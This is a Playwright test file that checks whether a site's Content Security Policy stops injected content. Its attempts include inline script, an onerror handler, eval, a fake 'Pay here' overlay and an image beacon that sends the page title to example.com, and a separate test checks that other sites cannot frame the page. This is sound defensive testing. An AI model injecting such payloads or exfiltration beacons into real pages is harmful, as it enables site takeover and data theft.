import { expect, test } from '@playwright/test';
import { touch } from './helpers/visitor.ts';

// What somebody who got a line of markup or script into a page would try (docs/decisions/0014-content-security-policy.md).
// That the pages themselves keep to the policy is seen to in every other test: visitor.ts.

const ATTEMPTS: [what: string, directive: string, attempt: () => void][] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "taken over"';
      document.body.append(script);
    },
  ],
  [
    'an event handler in markup',
    'script-src-attr',
    () => {
      const markup = '<img src="/none" onerror="document.title=\'taken over\'">';
      document.body.insertAdjacentHTML('beforeend', markup);
    },
  ],
  [
    'a script of another site',
    'script-src-elem',
    () => {
      const script = Object.assign(document.createElement('script'), { src: 'https://example.com/a.js' });
      document.body.append(script);
    },
  ],
  [
    'text run as code',
    'script-src',
    () => {
      // Not at once: what the test itself runs is no concern of the policy.
      setTimeout(() => {
        // oxlint-disable-next-line no-eval
        (0, eval)('document.title = "taken over"');
      });
    },
  ],
  [
    'a style in markup',
    'style-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed;inset:0">Pay here</p>');
    },
  ],
  [
    'a picture that carries data away',
    'img-src',
    () => {
      new Image().src = `https://example.com/?${document.title}`;
    },
  ],
  ['a request to another site', 'connect-src', () => void fetch('https://example.com/').catch(() => {})],
  [
    'a base address that bends links',
    'base-uri',
    () => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.com/' }));
    },
  ],
  [
    'a frame of another site',
    'frame-src',
    () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' }));
    },
  ],
  [
    'a form that leads elsewhere',
    'form-action',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<form action="https://example.com/" id="trap"></form>');
      document.querySelector<HTMLFormElement>('#trap')!.submit();
    },
  ],
];

test('what is put into a page neither runs nor reaches another site', async ({ page }) => {
  const violations: string[] = [];
  const reached: string[] = [];
  await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const { reportViolation } = window as unknown as { reportViolation: (directive: string) => void };
      reportViolation(effectiveDirective);
    });
  });
  page.on('requestfinished', (request) => reached.push(request.url()));
  await page.goto('/contact');
  await touch(page);
  for (const [what, directive, attempt] of ATTEMPTS) {
    violations.length = 0;
    await page.evaluate(attempt);
    await expect.poll(() => violations, what).toContain(directive);
    expect(await page.title(), what).not.toBe('taken over');
  }
  expect(reached.filter((url) => url.startsWith('https://example.com'))).toEqual([]);
});

test('no other site can show a page of this one in a frame', async ({ page, baseURL }) => {
  const other = baseURL!.replace('127.0.0.1', 'localhost');
  await page.route(`${other}/**`, (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/book"></iframe>` }),
  );
  await page.goto(`${other}/`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);

  // It is the headers that keep it out.
  const page_ = await (await page.request.get('/book')).text();
  await page.route(`${baseURL}/book`, (route) => route.fulfill({ contentType: 'text/html', body: page_ }));
  await page.reload();
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toBeVisible();
});
